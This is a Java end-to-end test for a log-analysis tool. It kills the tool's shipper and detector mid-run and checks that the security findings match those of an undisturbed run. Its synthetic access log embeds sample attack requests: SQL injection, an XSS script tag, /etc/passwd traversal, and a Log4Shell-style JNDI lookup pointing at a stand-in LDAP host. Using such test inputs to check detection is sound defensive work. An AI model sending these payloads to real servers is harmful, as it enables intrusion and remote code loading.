package io.caltrop.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code kill -9} of {@code caltrop ship} and of {@code caltrop up} in the middle of a million
 * lines, then the same lines again: the findings of a run in which nothing was killed.
 */
@Tag("long")
@Tag("once")
class RulesKilledPathTest {
  private static final int LINES = 1_000_000;
  private static final int KILLS = 3;
  private static final Duration LONGEST = Duration.ofMinutes(6);
  private static final Instant FIRST = Instant.parse("2026-01-05T08:00:00Z");
  private static final DateTimeFormatter TIME =
      DateTimeFormatter.ofPattern("dd/MMM/uuuu:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
  private static final String FINDINGS =
      "SELECT finding_id, rule, entity, first_seen, last_seen, count FROM findings ORDER BY 1";
  private static final String LAST =
      "SELECT entity FROM findings WHERE rule = 'exploit-attempt' AND entity = '203.0.113.250'";

  @TempDir Path folder;

  @Test
  void findings_are_those_of_a_run_without_faults() throws IOException {
    long seed = Long.getLong("caltrop.faults.seed", System.nanoTime());
    System.out.println("caltrop.faults.seed=" + seed);
    Path log = folder.resolve("access.log");
    write(log);

    List<String> undisturbed = undisturbed(log);
    assertThat(undisturbed).hasSizeGreaterThan(1_000);
    assertThat(rules(undisturbed)).contains("error-status", "path-scan", "sql-injection");

    disturbed(log, new Random(seed), undisturbed);
  }

  private List<String> undisturbed(Path log) throws IOException {
    Site site = new Site(Files.createDirectory(folder.resolve("undisturbed")));
    Psql psql = new Psql(site);
    try (Program up = site.upWithRules()) {
      shipOnce(site, log);
      List<String> found = settled(psql);
      assertThat(up.terminate()).isZero();
      return found;
    }
  }

  private void disturbed(Path log, Random random, List<String> expected) throws IOException {
    Site site = new Site(Files.createDirectory(folder.resolve("disturbed")));
    Psql psql = new Psql(site);
    Program up = site.upWithRules();
    Program ship = ship(site, log);
    try {
      await().atMost(LONGEST).until(() -> Kcat.first(folder, site.kafka(), "log_data") != null);
      for (int kill = 0; kill < KILLS; kill++) {
        wait(random, 2_000, 6_000);
        ship.kill();
        ship = ship(site, log);
        wait(random, 5_000, 20_000);
        up.kill();
        up = site.upWithRules();
      }
      ship.terminate();
      shipOnce(site, log); // the same lines again
      await()
          .atMost(LONGEST)
          .pollInterval(Duration.ofSeconds(2))
          .untilAsserted(() -> assertThat(psql.rows(FINDINGS)).isEqualTo(expected));
      assertThat(settled(psql)).isEqualTo(expected);
      assertThat(up.terminate()).isZero();
    } finally {
      ship.close();
      up.close();
    }
  }

  /** What was found, when the last line has been looked at and nothing changes any more. */
  private static List<String> settled(Psql psql) {
    await()
        .atMost(LONGEST)
        .pollInterval(Duration.ofSeconds(1))
        .until(() -> !psql.rows(LAST).isEmpty());
    List<List<String>> looks = new ArrayList<>(List.of(psql.rows(FINDINGS)));
    await()
        .atMost(LONGEST)
        .pollInterval(Duration.ofSeconds(5))
        .until(
            () -> {
              looks.add(psql.rows(FINDINGS));
              return looks.get(looks.size() - 1).equals(looks.get(looks.size() - 2));
            });
    return looks.get(looks.size() - 1);
  }

  private static List<String> rules(List<String> findings) {
    return findings.stream().map(row -> row.split("\\|", -1)[1]).distinct().toList();
  }

  private static void wait(Random random, int least, int most) {
    await()
        .pollDelay(Duration.ofMillis(least + random.nextInt(most - least)))
        .atMost(Duration.ofMinutes(1))
        .until(() -> true);
  }

  private Program ship(Site site, Path log, String... more) {
    List<String> arguments = new ArrayList<>(site.command("ship", more));
    arguments.add(log.toString());
    return Program.caltrop(site.folder, arguments);
  }

  private void shipOnce(Site site, Path log) {
    Program ship = ship(site, log, "--once");
    assertThat(ship.awaitExit(LONGEST)).as(ship.stderr()).isZero();
  }

  /**
   * Five thousand addresses that read, one request in a thousand an attack; at a time one more that
   * asks for what is not there.
   */
  private static void write(Path log) throws IOException {
    Random random = new Random(7);
    String[] attacks = {
      "/item?id=1%27+union+select+null,null--", "/?q=<script>alert(1)</script>", "/../../etc/passwd"
    };
    try (BufferedWriter out = Files.newBufferedWriter(log)) {
      for (int i = 0; i < LINES; i++) {
        boolean isOfScan = random.nextInt(20) == 0;
        String address =
            isOfScan
                ? "10.1.0." + i / 1_000 % 250
                : "10.0." + random.nextInt(20) + "." + random.nextInt(250);
        boolean isError = isOfScan || random.nextInt(50) == 0;
        String path = "/page/" + random.nextInt(5_000);
        if (random.nextInt(1_000) == 0) {
          path = attacks[random.nextInt(attacks.length)];
        }
        out.write(line(address, FIRST.plusMillis(i * 20L), path, isError ? 404 : 200));
      }
      out.write(
          line(
              "203.0.113.250",
              FIRST.plusMillis(LINES * 20L),
              "/?x=${jndi:ldap://192.0.2.1/a}",
              404));
    }
  }

  private static String line(String address, Instant at, String path, int status) {
    return "%s - - [%s] \"GET %s HTTP/1.1\" %d 17 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n"
        .formatted(address, TIME.format(at), path, status);
  }
}
